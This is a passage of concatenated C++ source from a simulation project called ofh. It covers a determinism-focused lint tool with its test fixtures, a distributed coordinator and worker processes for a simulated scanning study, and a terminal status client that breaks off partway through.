  config.rules["pointer-order"] = {Severity::kError, {}, {}};

  // Shared-state hazards: mutable statics in the threaded shard domain,
  // and atomics that silently take seq_cst on a hot path.
  config.rules["unmarked-static"] = {Severity::kError, shared_state_scope, {}};
  config.rules["atomic-default-order"] = {Severity::kError, {"src/obs/"}, {}};

  // Lint hygiene: malformed/justification-free pragmas and suppressions
  // that no longer suppress anything are themselves violations, so the
  // suppression inventory stays exact.
  config.rules["bad-pragma"] = {Severity::kError, {}, {}};
  config.rules["unused-suppression"] = {Severity::kError, {}, {}};
  return config;
}

Severity Config::severity(const std::string& rule) const {
  const auto it = rules.find(rule);
  return it == rules.end() ? Severity::kOff : it->second.severity;
}

bool Config::applies(const std::string& rule,
                     const std::string& relpath) const {
  const auto it = rules.find(rule);
  if (it == rules.end() || it->second.severity == Severity::kOff) return false;
  const auto prefix_match = [&](const std::vector<std::string>& prefixes) {
    for (const auto& prefix : prefixes) {
      if (relpath.rfind(prefix, 0) == 0) return true;
    }
    return false;
  };
  if (!it->second.paths.empty() && !prefix_match(it->second.paths)) {
    return false;
  }
  return !prefix_match(it->second.allow_paths);
}

std::optional<Config> Config::load(const std::string& path,
                                   std::string* error) {
  Config config = defaults();
  std::ifstream in(path);
  if (!in) {
    *error = "cannot open config file: " + path;
    return std::nullopt;
  }
  std::string line;
  std::string section;
  int line_no = 0;
  while (std::getline(in, line)) {
    ++line_no;
    line = trim(strip_comment(line));
    if (line.empty()) continue;
    const auto fail = [&](const std::string& message) {
      *error = path + ":" + std::to_string(line_no) + ": " + message;
      return std::nullopt;
    };
    if (line.front() == '[') {
      if (line.back() != ']') return fail("unterminated section header");
      section = trim(line.substr(1, line.size() - 2));
      if (section != "lint" && section.rfind("rule.", 0) != 0) {
        return fail("unknown section [" + section + "]");
      }
      if (section.rfind("rule.", 0) == 0 &&
          !config.known_rule(section.substr(5))) {
        return fail("unknown rule '" + section.substr(5) + "'");
      }
      continue;
    }
    const auto eq = line.find('=');
    if (eq == std::string::npos) return fail("expected key = value");
    const std::string key = trim(line.substr(0, eq));
    const std::string value = trim(line.substr(eq + 1));
    if (section.rfind("rule.", 0) != 0) {
      return fail("key '" + key + "' outside a [rule.*] section");
    }
    RuleConfig& rule = config.rules[section.substr(5)];
    if (key == "severity") {
      std::string text;
      if (!parse_string(value, &text) || !parse_severity(text, &rule.severity)) {
        return fail("severity must be \"off\", \"warn\" or \"error\"");
      }
    } else if (key == "paths") {
      if (!parse_string_array(value, &rule.paths)) {
        return fail("paths must be an array of strings");
      }
    } else if (key == "allow-paths") {
      if (!parse_string_array(value, &rule.allow_paths)) {
        return fail("allow-paths must be an array of strings");
      }
    } else {
      return fail("unknown key '" + key + "'");
    }
  }
  return config;
}

}  // namespace ofh::lint
