// ofh-lint fixture: every nondeterminism source the lint must flag.
// An EXPECT marker names the finding the self-test requires on its line;
// a line without a marker must produce no finding. This file is lint
// input only — it is never compiled.
#include <chrono>
#include <cstdlib>
#include <ctime>
#include <random>
#include <thread>

#include "util/rng.h"

namespace fixture {

unsigned seed_from_entropy() {
  std::random_device entropy;               // EXPECT: random-device
  return entropy();
}

int libc_randomness() {
  srand(42);                                // EXPECT: libc-rand
  int a = rand();                           // EXPECT: libc-rand
  a += static_cast<int>(drand48() * 100);   // EXPECT: libc-rand
  return a;
}

long wall_clock_reads() {
  auto now = std::chrono::system_clock::now();   // EXPECT: wall-clock
  auto tick = std::chrono::steady_clock::now();  // EXPECT: wall-clock
  long stamp = time(nullptr);                    // EXPECT: wall-clock
  struct timeval tv;
  gettimeofday(&tv, nullptr);                    // EXPECT: wall-clock
  (void)now;
  (void)tick;
  return stamp + tv.tv_sec;
}

const char* environment_read() {
  return getenv("OFH_SCALE");               // EXPECT: env-read
}

void blocking_sleep() {
  std::this_thread::sleep_for(std::chrono::milliseconds(10));  // EXPECT: thread-sleep
  usleep(1000);                             // EXPECT: thread-sleep
}

// Deterministic alternatives: none of these may be flagged.
std::uint64_t sanctioned(std::uint64_t study_seed) {
  ofh::util::Rng rng(study_seed);
  const std::uint64_t draw = rng.next();
  const std::uint64_t keyed = ofh::util::splitmix64(study_seed ^ draw);
  return keyed;
}

// Member access is not the libc call: none of these may be flagged. (The
// fixture is lint input only, so the callees need no declarations.)
struct Handle {};
int member_named_like_libc(Handle* h, Handle& ref) {
  h->rand();
  ref.clock();
  return ref.sleep;
}

}  // namespace fixture
