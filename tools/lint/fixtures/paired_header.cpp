// ofh-lint fixture: TU half of the paired-header test — iterates a member
// container whose unordered declaration is only visible in paired_header.h.
#include "paired_header.h"

namespace fixture {

void Registry::add(std::uint32_t addr, std::string banner) {
  entries_[addr] = std::move(banner);
}

std::string Registry::dump() const {
  std::string out;
  for (const auto& [addr, banner] : entries_) {  // EXPECT: unordered-iteration
    out += banner;
  }
  return out;
}

}  // namespace fixture
