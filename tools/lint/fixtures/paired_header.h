// ofh-lint fixture: header half of the paired-header test. The container
// is declared here; the iteration hazard lives in paired_header.cpp, which
// the lint must resolve by reading this header alongside the TU.
#pragma once

#include <cstdint>
#include <string>
#include <unordered_map>

namespace fixture {

class Registry {
 public:
  void add(std::uint32_t addr, std::string banner);
  std::string dump() const;
  std::size_t size() const { return entries_.size(); }

 private:
  std::unordered_map<std::uint32_t, std::string> entries_;
};

}  // namespace fixture
