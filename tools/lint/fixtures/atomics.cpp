// ofh-lint fixture: hot-path atomics must spell their memory ordering, and
// seq_cst needs a justification. Lint input only, never compiled.
#include <atomic>
#include <cstdint>

namespace fixture {

struct Counters {
  std::atomic<std::uint64_t> hits{0};
  std::atomic<std::uint64_t> misses{0};
};

std::uint64_t record(Counters& counters, std::atomic<std::uint64_t>* cell) {
  counters.hits.fetch_add(1);                                // EXPECT: atomic-default-order
  counters.misses.fetch_add(1, std::memory_order_seq_cst);   // EXPECT: atomic-default-order
  cell->store(7);                                            // EXPECT: atomic-default-order
  std::uint64_t total = counters.hits.load();                // EXPECT: atomic-default-order

  // Explicit relaxed ordering is the hot-path idiom; not flagged.
  counters.hits.fetch_add(1, std::memory_order_relaxed);
  cell->store(7, std::memory_order_relaxed);
  total += counters.misses.load(std::memory_order_relaxed);
  total += counters.hits.load(std::memory_order_acquire);
  return total;
}

}  // namespace fixture
