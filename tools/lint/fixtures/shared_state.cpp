// ofh-lint fixture: shared-state hazards — mutable statics without a
// concurrency marker. Lint input only, never compiled.
#include <atomic>
#include <cstdint>
#include <mutex>
#include <string>
#include <vector>

namespace fixture {

static std::uint64_t g_packet_count = 0;       // EXPECT: unmarked-static
static std::vector<std::string> g_log_lines;   // EXPECT: unmarked-static

// Marked variants: none of these may be flagged.
static const std::uint64_t kLimit = 512;
static constexpr std::uint32_t kMask = 0xffff;
static std::atomic<std::uint64_t> g_counted{0};
static std::mutex g_log_mutex;
static thread_local std::uint64_t t_scratch = 0;

std::uint64_t bump() {
  static std::uint64_t calls = 0;              // EXPECT: unmarked-static
  return ++calls;
}

const std::vector<std::string>& table() {
  // Immutable after construction; const marks it safe.
  static const std::vector<std::string> kRows = {"a", "b"};
  return kRows;
}

// Function declarations and definitions are not variables; not flagged.
static std::uint64_t helper(std::uint64_t x) { return x + 1; }

inline std::uint64_t g_inline_counter = 0;     // EXPECT: unmarked-static

std::uint64_t use_all(std::uint64_t x) {
  g_packet_count += x;
  g_log_lines.push_back("x");
  return helper(kLimit + kMask + g_counted.load(std::memory_order_relaxed) +
                t_scratch + g_inline_counter);
}

}  // namespace fixture
