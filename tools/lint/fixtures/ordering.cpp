// ofh-lint fixture: ordering hazards — unordered-container iteration and
// ordering derived from pointer values. Lint input only, never compiled.
#include <algorithm>
#include <cstdint>
#include <map>
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

namespace fixture {

struct Device {
  std::uint32_t addr;
};

struct Exporter {
  std::unordered_map<std::uint32_t, std::string> banners_;
  std::unordered_set<std::uint32_t> seen_;
  std::map<std::uint32_t, std::string> ordered_;

  std::string dump() const {
    std::string out;
    for (const auto& [addr, banner] : banners_) {  // EXPECT: unordered-iteration
      out += banner;
    }
    for (const auto addr : seen_) {                // EXPECT: unordered-iteration
      out += std::to_string(addr);
    }
    // Ordered container: iteration order is the key order; not flagged.
    for (const auto& [addr, banner] : ordered_) {
      out += banner;
    }
    return out;
  }

  std::size_t iterator_loop() const {
    std::size_t n = 0;
    for (auto it = banners_.begin(); it != banners_.end(); ++it) {  // EXPECT: unordered-iteration
      ++n;
    }
    return n;
  }

  // Keyed lookup does not leak iteration order; not flagged.
  bool contains(std::uint32_t addr) const {
    return banners_.find(addr) != banners_.end();
  }
};

std::string local_unordered() {
  std::unordered_map<int, int> counts;
  std::string out;
  for (const auto& [key, count] : counts) {  // EXPECT: unordered-iteration
    out += std::to_string(key * count);
  }
  return out;
}

std::size_t hash_of_pointer(Device* device) {
  return std::hash<Device*>{}(device);       // EXPECT: pointer-hash
}

// Hash of a value type is fine; not flagged.
std::size_t hash_of_value(std::uint64_t id) {
  return std::hash<std::uint64_t>{}(id);
}

void sort_by_address(std::vector<Device*>& devices) {
  std::sort(devices.begin(), devices.end(), std::less<Device*>());  // EXPECT: pointer-order
}

std::uint64_t key_from_pointer(const Device* device) {
  return reinterpret_cast<std::uintptr_t>(device);  // EXPECT: pointer-order
}

// Sorting by a stable field is the sanctioned fix; not flagged.
void sort_by_stable_key(std::vector<Device*>& devices) {
  std::sort(devices.begin(), devices.end(),
            [](const Device* lhs, const Device* rhs) {
              return lhs->addr < rhs->addr;
            });
}

}  // namespace fixture
