// ofh-lint fixture: the suppression pragma contract. A justified allow()
// silences exactly its line and rule; a justification-free or malformed
// pragma is itself a violation; a pragma that suppresses nothing is stale
// and flagged. Lint input only, never compiled.
#include <cstdlib>
#include <ctime>

namespace fixture {

// Trailing-comment form: suppresses the finding on its own line.
long sanctioned_wall_read() {
  return time(nullptr);  // ofh-lint: allow(wall-clock) — fixture stand-in for the obs wall-profile channel
}

// Own-line form: covers the next line that has code on it.
// ofh-lint: allow(libc-rand) — fixture stand-in for a vetted legacy call
int own_line_form() { return rand(); }

// One pragma may name several rules when one line trips more than one.
long multi_rule() {
  return time(nullptr) + rand();  // ofh-lint: allow(wall-clock, libc-rand) -- fixture: both hazards vetted together
}

// A justification-free pragma never suppresses: both the pragma and the
// underlying hazard are reported.
long missing_justification() {
  return time(nullptr); /* EXPECT: bad-pragma, wall-clock */  // ofh-lint: allow(wall-clock)
}

// Too-short justifications don't count either.
long terse_justification() {
  return time(nullptr); /* EXPECT: bad-pragma, wall-clock */  // ofh-lint: allow(wall-clock) — fixme
}

// Unknown rule names are typos, not suppressions.
long unknown_rule() {
  return time(nullptr); /* EXPECT: bad-pragma, wall-clock */  // ofh-lint: allow(wall-clocks) — justified but misspelled
}

// Unrecognized verbs are rejected outright.
int unknown_verb() {
  return 1; /* EXPECT: bad-pragma */  // ofh-lint: ignore(wall-clock) — wrong pragma verb
}

// A pragma that suppresses nothing is stale and must be removed.
int stale_pragma() {
  return 2; /* EXPECT: unused-suppression */  // ofh-lint: allow(libc-rand) — nothing here draws randomness
}

}  // namespace fixture
