#include "driver.h"

#include <algorithm>
#include <fstream>
#include <sstream>

namespace ofh::lint {

namespace {

std::string read_file(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

bool lintable(const std::filesystem::path& path) {
  const auto ext = path.extension().string();
  return ext == ".h" || ext == ".cpp" || ext == ".cc" || ext == ".hpp";
}

std::string to_rel(const std::filesystem::path& root,
                   const std::filesystem::path& path) {
  return std::filesystem::relative(path, root).generic_string();
}

}  // namespace

std::vector<std::string> collect_files(
    const std::filesystem::path& root, const std::vector<std::string>& inputs) {
  std::vector<std::string> files;
  for (const auto& input : inputs) {
    const std::filesystem::path as_path(input);
    const std::filesystem::path path =
        as_path.is_absolute() ? as_path : root / as_path;
    if (std::filesystem::is_directory(path)) {
      for (const auto& entry :
           std::filesystem::recursive_directory_iterator(path)) {
        if (entry.is_regular_file() && lintable(entry.path())) {
          files.push_back(to_rel(root, entry.path()));
        }
      }
    } else if (std::filesystem::is_regular_file(path) && lintable(path)) {
      files.push_back(to_rel(root, path));
    }
  }
  std::sort(files.begin(), files.end());
  files.erase(std::unique(files.begin(), files.end()), files.end());
  return files;
}

std::vector<Finding> lint_file(const Config& config,
                               const std::filesystem::path& root,
                               const std::string& relpath, LintStats* stats) {
  const std::filesystem::path path = root / relpath;
  const std::string source = read_file(path);
  std::string header_source;
  if (path.extension() == ".cpp" || path.extension() == ".cc") {
    std::filesystem::path header = path;
    header.replace_extension(".h");
    if (std::filesystem::is_regular_file(header)) {
      header_source = read_file(header);
    }
  }
  if (stats != nullptr) {
    ++stats->files;
    stats->lines += static_cast<std::uint64_t>(
        std::count(source.begin(), source.end(), '\n'));
  }
  return lint_source(config, relpath, source, header_source);
}

std::vector<Finding> lint_files(const Config& config,
                                const std::filesystem::path& root,
                                const std::vector<std::string>& relpaths,
                                LintStats* stats) {
  std::vector<Finding> findings;
  for (const auto& relpath : relpaths) {
    auto file_findings = lint_file(config, root, relpath, stats);
    findings.insert(findings.end(),
                    std::make_move_iterator(file_findings.begin()),
                    std::make_move_iterator(file_findings.end()));
  }
  return findings;
}

}  // namespace ofh::lint
