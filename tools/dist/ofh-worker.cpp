// ofh-worker: a standalone scan-shard worker process. Connects to an
// ofh-coordinator's unix socket, announces itself, and executes JOB frames
// until SHUTDOWN or EOF (dist/worker.h). Run one per core:
//
//   for i in 1 2 3; do ofh-worker --connect /tmp/ofh.sock --name w$i & done
//
// Crash-safety is the coordinator's job: killing this process at any point
// (SIGKILL included) only costs the in-flight attempt.
#include <cstdio>
#include <cstdlib>
#include <string>

#include "dist/worker.h"

int main(int argc, char** argv) {
  ofh::dist::WorkerOptions options;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--connect" && i + 1 < argc) {
      options.connect_path = argv[++i];
    } else if (arg == "--name" && i + 1 < argc) {
      options.name = argv[++i];
    } else if (arg == "--connect-wait-ms" && i + 1 < argc) {
      options.connect_wait_ms = std::atoi(argv[++i]);
    } else if (arg == "--help" || arg == "-h") {
      std::printf(
          "usage: ofh-worker --connect PATH [--name NAME] "
          "[--connect-wait-ms MS]\n");
      return 0;
    } else {
      std::fprintf(stderr, "ofh-worker: unknown argument '%s'\n",
                   arg.c_str());
      return 2;
    }
  }
  if (options.connect_path.empty()) {
    std::fprintf(stderr, "ofh-worker: --connect PATH is required\n");
    return 2;
  }
  const int code = ofh::dist::run_worker(options);
  if (code == 2) {
    std::fprintf(stderr, "ofh-worker: could not connect to %s\n",
                 options.connect_path.c_str());
  }
  return code;
}
