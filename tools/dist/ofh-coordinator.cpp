// ofh-coordinator: runs the paper study with the scan phase distributed
// across worker processes, and prints the deterministic reports. The
// quick-start (README):
//
//   ofh-coordinator --workers 3                  # forks 3 local workers
//   ofh-coordinator --listen /tmp/ofh.sock --workers 3 --wait 3 --fork 0
//                                                # external ofh-worker fleet
//   ofh-coordinator --workers 0                  # in-process serial
//                                                # reference (CI diffs
//                                                # distributed against this)
//
// The reports are byte-identical for every --workers value — including
// runs where --kill-one SIGKILLs a worker mid-job — which is the
// distributed layer's whole contract (DESIGN.md §15).
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <optional>
#include <string>
#include <vector>

#include "core/scan_shard.h"
#include "core/scenario.h"
#include "dist/coordinator.h"

namespace {

struct Args {
  std::string listen_path;
  unsigned workers = 3;      // StudyConfig::scan_workers
  int fork_workers = -1;     // -1 = default: workers when not listening
  unsigned wait_workers = 0;  // HELLOs to wait for before dispatching
  bool kill_one = false;
  std::string scale = "1/16384";
  std::string attack_scale = "1/256";
  unsigned days = 3;
  std::uint64_t seed = 42;
  std::string out_path;
  std::vector<std::string> reports = {"table4", "table5", "summary",
                                      "progress-summary"};
};

std::string scenario_text(const Args& args) {
  std::string text = "scenario distributed study (ofh-coordinator)\n";
  text += "seed " + std::to_string(args.seed) + "\n";
  text += "scale " + args.scale + "\n";
  text += "attack-scale " + args.attack_scale + "\n";
  text += "duration-days " + std::to_string(args.days) + "\n";
  text += "scan-workers " + std::to_string(args.workers) + "\n";
  for (const std::string& report : args.reports) {
    text += "report " + report + "\n";
  }
  return text;
}

}  // namespace

int main(int argc, char** argv) {
  Args args;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const bool has_value = i + 1 < argc;
    if (arg == "--listen" && has_value) {
      args.listen_path = argv[++i];
    } else if (arg == "--workers" && has_value) {
      args.workers = static_cast<unsigned>(std::atoi(argv[++i]));
    } else if (arg == "--fork" && has_value) {
      args.fork_workers = std::atoi(argv[++i]);
    } else if (arg == "--wait" && has_value) {
      args.wait_workers = static_cast<unsigned>(std::atoi(argv[++i]));
    } else if (arg == "--kill-one") {
      args.kill_one = true;
    } else if (arg == "--scale" && has_value) {
      args.scale = argv[++i];
    } else if (arg == "--attack-scale" && has_value) {
      args.attack_scale = argv[++i];
    } else if (arg == "--days" && has_value) {
      args.days = static_cast<unsigned>(std::atoi(argv[++i]));
    } else if (arg == "--seed" && has_value) {
      args.seed = static_cast<std::uint64_t>(std::atoll(argv[++i]));
    } else if (arg == "--out" && has_value) {
      args.out_path = argv[++i];
    } else if (arg == "--report" && has_value) {
      args.reports.push_back(argv[++i]);
    } else if (arg == "--help" || arg == "-h") {
      std::printf(
          "usage: ofh-coordinator [--workers N] [--listen PATH] [--fork N]\n"
          "                       [--wait N] [--kill-one] [--scale F]\n"
          "                       [--attack-scale F] [--days N] [--seed N]\n"
          "                       [--report NAME]... [--out FILE]\n"
          "--workers 0 runs the in-process serial reference.\n");
      return 0;
    } else {
      std::fprintf(stderr, "ofh-coordinator: unknown argument '%s'\n",
                   arg.c_str());
      return 2;
    }
  }

  // --workers 0: no dispatcher installed, Study runs the in-process path.
  // This is the serial reference CI diffs every distributed run against.
  if (args.workers > 0) {
    const unsigned forks =
        args.fork_workers >= 0
            ? static_cast<unsigned>(args.fork_workers)
            : (args.listen_path.empty() ? args.workers : 0);
    ofh::core::set_scan_shard_dispatcher(
        [&args, forks](const ofh::core::StudyConfig& config,
                       const std::vector<ofh::core::ScanShardJob>& jobs,
                       const ofh::core::ScanShardProgressSink& sink)
            -> std::optional<std::vector<ofh::core::ScanShardResult>> {
          ofh::dist::CoordinatorOptions options;
          options.listen_path = args.listen_path;
          options.fork_workers = forks;
          options.wait_workers =
              args.wait_workers > 0 ? args.wait_workers : forks;
          options.kill_worker_after_progress = args.kill_one;
          ofh::dist::Coordinator coordinator(std::move(options));
          if (!coordinator.start()) {
            std::fprintf(stderr, "ofh-coordinator: %s (degrading inline)\n",
                         coordinator.error().c_str());
          }
          auto results = coordinator.run(config, jobs, sink);
          for (const auto& entry : coordinator.retry_ledger()) {
            std::fprintf(stderr,
                         "ofh-coordinator: job %u attempt %u on %s requeued "
                         "(%s)\n",
                         entry.job_index, entry.epoch, entry.worker.c_str(),
                         entry.reason.c_str());
          }
          if (coordinator.duplicates_dropped() > 0) {
            std::fprintf(stderr,
                         "ofh-coordinator: dropped %llu duplicate result(s)\n",
                         static_cast<unsigned long long>(
                             coordinator.duplicates_dropped()));
          }
          coordinator.shutdown();
          return results;
        });
  }

  ofh::core::ScenarioError error;
  const auto scenario = ofh::core::parse_scenario_text(
      scenario_text(args), "<ofh-coordinator>", &error);
  if (!scenario) {
    std::fprintf(stderr, "ofh-coordinator: %s\n", error.to_string().c_str());
    return 2;
  }
  ofh::core::ScenarioRunOptions options;
  options.thread_sweep = {1};  // worker processes, not threads
  options.check_expectations = false;
  const auto result = ofh::core::run_scenario(*scenario, options);
  for (const auto& failure : result.failures) {
    std::fprintf(stderr, "%s\n", failure.c_str());
  }
  if (!result.failures.empty()) return 1;

  std::string output;
  for (const auto& report : result.reports) {
    output += "==== report " + report.name + " ====\n" + report.text;
    if (!report.text.empty() && report.text.back() != '\n') output += "\n";
  }
  if (args.out_path.empty()) {
    std::fputs(output.c_str(), stdout);
  } else {
    std::ofstream out(args.out_path, std::ios::binary | std::ios::trunc);
    if (!out) {
      std::fprintf(stderr, "ofh-coordinator: cannot write %s\n",
                   args.out_path.c_str());
      return 2;
    }
    out << output;
  }
  return 0;
}
