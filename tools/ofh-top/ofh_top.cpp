// ofh-top: terminal client for the study status endpoint
// (core/status_service.h). Connects over the unix socket or TCP localhost,
// polls the binary protocol and renders a one-screen live view: board
// (phase / sim-day), per-sweep progress bars, throughput, memory and ETA
// from the wall sampler, event-kind totals, trace-shard stats and the tail
// of the progress-event stream.
//
//   ofh-top --unix PATH [options]        connect via unix-domain socket
//   ofh-top --port N [--host H] [...]    connect via TCP (default host
//                                        127.0.0.1; the server only binds
//                                        loopback)
// Options:
//   --once            poll once, print, exit (no screen clearing)
//   --raw             machine-readable key=value lines (CI greps ^phase=)
//   --interval-ms N   poll cadence for the live view (default 500)
//
// Exit status: 0 on a clean run (including the server going away mid-view,
// which is the normal end of a study), 1 on connect failure or a protocol
// error on the very first poll.
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <optional>
#include <span>
#include <string>
#include <thread>
#include <vector>

#include "core/status_service.h"
#include "obs/introspect.h"
#include "util/bytes.h"

namespace {

using ofh::core::kStatusErrorTag;
using ofh::core::kStatusResponseBit;
using ofh::core::StatusRequest;

struct Options {
  std::string unix_path;
  std::string host = "127.0.0.1";
  int port = 0;
  bool once = false;
  bool raw = false;
  int interval_ms = 500;
};

int connect_to(const Options& options) {
  if (!options.unix_path.empty()) {
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    if (options.unix_path.size() >= sizeof addr.sun_path) return -1;
    std::memcpy(addr.sun_path, options.unix_path.c_str(),
                options.unix_path.size() + 1);
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) return -1;
    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
      ::close(fd);
      return -1;
    }
    return fd;
  }
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<std::uint16_t>(options.port));
  if (::inet_pton(AF_INET, options.host.c_str(), &addr.sin_addr) != 1) {
    return -1;
  }
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

bool write_all(int fd, const std::uint8_t* data, std::size_t size) {
  while (size > 0) {
    const ssize_t n = ::write(fd, data, size);
    if (n <= 0) {
      if (n < 0 && errno == EINTR) continue;
      return false;
    }
    data += n;
    size -= static_cast<std::size_t>(n);
  }
  return true;
}

bool read_all(int fd, std::uint8_t* data, std::size_t size) {
  while (size > 0) {
    const ssize_t n = ::read(fd, data, size);
    if (n <= 0) {
      if (n < 0 && errno == EINTR) continue;
      return false;
    }
    data += n;
    size -= static_cast<std::size_t>(n);
  }
  return true;
}

// Sends one framed request and reads back one framed response body.
std::optional<ofh::util::Bytes> roundtrip(
    int fd, std::span<const std::uint8_t> body) {
  const ofh::util::Bytes framed = ofh::core::frame_status_message(body);
  if (!write_all(fd, framed.data(), framed.size())) return std::nullopt;
  std::uint8_t header[4];
  if (!read_all(fd, header, sizeof header)) return std::nullopt;
  ofh::util::ByteReader reader(std::span<const std::uint8_t>(header, 4));
  const std::uint32_t length = *reader.u32();
  if (length > (16u << 20)) return std::nullopt;  // implausible response
  ofh::util::Bytes response(length);
  if (length > 0 && !read_all(fd, response.data(), length)) {
    return std::nullopt;
  }
  return response;
}

std::optional<ofh::util::Bytes> request(int fd, StatusRequest tag) {
  const std::uint8_t body[1] = {static_cast<std::uint8_t>(tag)};
  return roundtrip(fd, body);
}

struct SweepView {
  std::string name;
  std::uint64_t done = 0;
  std::uint64_t total = 0;
};

struct StatusView {
  std::uint64_t epoch = 0;
  std::uint8_t phase = 0;
  std::string phase_name;
  std::uint64_t sim_now = 0;
  std::uint64_t sim_day = 0;
  std::uint64_t sweep_done = 0;
  std::uint64_t sweep_total = 0;
  std::vector<SweepView> sweeps;
  std::uint64_t trace_recorded = 0;
  std::uint64_t trace_dropped = 0;
  std::uint64_t events_published = 0;
  std::vector<std::uint64_t> kind_counts;
  std::uint64_t rss_bytes = 0;
  std::uint64_t vm_hwm_bytes = 0;
  std::uint64_t hosts_per_sec_milli = 0;
  std::uint64_t packets_per_sec_milli = 0;
  std::uint64_t eta_ms = ~std::uint64_t{0};
  std::uint64_t wall_elapsed_ms = 0;
};

// Parses a status response body; reports protocol errors on stderr.
std::optional<StatusView> parse_status(const ofh::util::Bytes& body) {
  ofh::util::ByteReader reader(body);
  const auto tag = reader.u8();
  if (!tag) return std::nullopt;
  if (*tag == kStatusErrorTag) {
    const auto code = reader.u8();
    const auto message = reader.str16();
    std::fprintf(stderr, "ofh-top: server error %u: %s\n",
                 code ? unsigned{*code} : 0u,
                 message ? message->c_str() : "?");
    return std::nullopt;
  }
  if (*tag != (kStatusResponseBit |
               static_cast<std::uint8_t>(StatusRequest::kStatus))) {
    std::fprintf(stderr, "ofh-top: unexpected response tag 0x%02x\n", *tag);
    return std::nullopt;
  }
  StatusView view;
  const auto u64 = [&reader](std::uint64_t& out) {
    const auto v = reader.u64();
    if (v) out = *v;
    return v.has_value();
  };
  bool ok = u64(view.epoch);
  if (const auto v = reader.u8(); v) view.phase = *v; else ok = false;
  if (const auto v = reader.str8(); v) view.phase_name = *v; else ok = false;
  ok = ok && u64(view.sim_now) && u64(view.sim_day) &&
       u64(view.sweep_done) && u64(view.sweep_total);
  if (const auto count = reader.u8(); ok && count) {
    for (unsigned i = 0; i < *count && ok; ++i) {
      SweepView sweep;
      if (const auto name = reader.str8(); name) sweep.name = *name;
      else ok = false;
      ok = ok && u64(sweep.done) && u64(sweep.total);
      view.sweeps.push_back(std::move(sweep));
    }
  } else {
    ok = false;
  }
  ok = ok && u64(view.trace_recorded) && u64(view.trace_dropped) &&
       u64(view.events_published);
  if (const auto count = reader.u8(); ok && count) {
    for (unsigned i = 0; i < *count && ok; ++i) {
      std::uint64_t value = 0;
      ok = u64(value);
      view.kind_counts.push_back(value);
    }
  } else {
    ok = false;
  }
  ok = ok && u64(view.rss_bytes) && u64(view.vm_hwm_bytes) &&
       u64(view.hosts_per_sec_milli) && u64(view.packets_per_sec_milli) &&
       u64(view.eta_ms) && u64(view.wall_elapsed_ms);
  if (!ok || !reader.done()) {
    std::fprintf(stderr, "ofh-top: malformed status response\n");
    return std::nullopt;
  }
  return view;
}

std::string humanize(std::uint64_t value) {
  char buf[32];
  if (value >= 10'000'000) {
    std::snprintf(buf, sizeof buf, "%.1fM",
                  static_cast<double>(value) / 1e6);
  } else if (value >= 10'000) {
    std::snprintf(buf, sizeof buf, "%.1fk",
                  static_cast<double>(value) / 1e3);
  } else {
    std::snprintf(buf, sizeof buf, "%llu",
                  static_cast<unsigned long long>(value));
  }
  return buf;
}

std::string bar(std::uint64_t done, std::uint64_t total, int width) {
  const double fraction =
      total == 0 ? 0.0
                 : std::min(1.0, static_cast<double>(done) /
                                     static_cast<double>(total));
  const int fill = static_cast<int>(fraction * width + 0.5);
  std::string out = "[";
  for (int i = 0; i < width; ++i) out += i < fill ? '#' : '.';
  out += "]";
  char pct[16];
  std::snprintf(pct, sizeof pct, " %5.1f%%", fraction * 100.0);
  return out + pct;
}

void print_raw(const StatusView& view) {
  const auto u = [](std::uint64_t v) {
    return std::to_string(v);
  };
  std::printf("epoch=%s\n", u(view.epoch).c_str());
  std::printf("phase=%u\n", unsigned{view.phase});
  std::printf("phase_name=%s\n", view.phase_name.c_str());
  std::printf("sim_now=%s\n", u(view.sim_now).c_str());
  std::printf("sim_day=%s\n", u(view.sim_day).c_str());
  std::printf("sweep_done=%s\n", u(view.sweep_done).c_str());
  std::printf("sweep_total=%s\n", u(view.sweep_total).c_str());
  for (const auto& sweep : view.sweeps) {
    std::printf("sweep.%s=%s/%s\n", sweep.name.c_str(),
                u(sweep.done).c_str(), u(sweep.total).c_str());
  }
  std::printf("trace_recorded=%s\n", u(view.trace_recorded).c_str());
  std::printf("trace_dropped=%s\n", u(view.trace_dropped).c_str());
  std::printf("events_published=%s\n", u(view.events_published).c_str());
  for (std::size_t i = 0; i < view.kind_counts.size(); ++i) {
    std::printf("events.%s=%s\n",
                std::string(ofh::obs::progress_kind_name(
                                static_cast<ofh::obs::ProgressKind>(i)))
                    .c_str(),
                u(view.kind_counts[i]).c_str());
  }
  std::printf("rss_bytes=%s\n", u(view.rss_bytes).c_str());
  std::printf("vm_hwm_bytes=%s\n", u(view.vm_hwm_bytes).c_str());
  std::printf("hosts_per_sec_milli=%s\n",
              u(view.hosts_per_sec_milli).c_str());
  std::printf("packets_per_sec_milli=%s\n",
              u(view.packets_per_sec_milli).c_str());
  std::printf("eta_ms=%s\n", u(view.eta_ms).c_str());
  std::printf("wall_elapsed_ms=%s\n", u(view.wall_elapsed_ms).c_str());
}

void print_screen(const StatusView& view, bool clear) {
  if (clear) std::printf("\x1b[2J\x1b[H");
  std::printf("ofh-top — live study status  (wall %.1fs)\n",
              static_cast<double>(view.wall_elapsed_ms) / 1000.0);
  std::printf("phase  %u %-14s  sim-day %llu  epoch %llu\n",
              unsigned{view.phase},
              view.phase_name.empty() ? "(idle)" : view.phase_name.c_str(),
              static_cast<unsigned long long>(view.sim_day),
              static_cast<unsigned long long>(view.epoch));
  std::printf("memory rss %s  peak %s\n", humanize(view.rss_bytes).c_str(),
              humanize(view.vm_hwm_bytes).c_str());
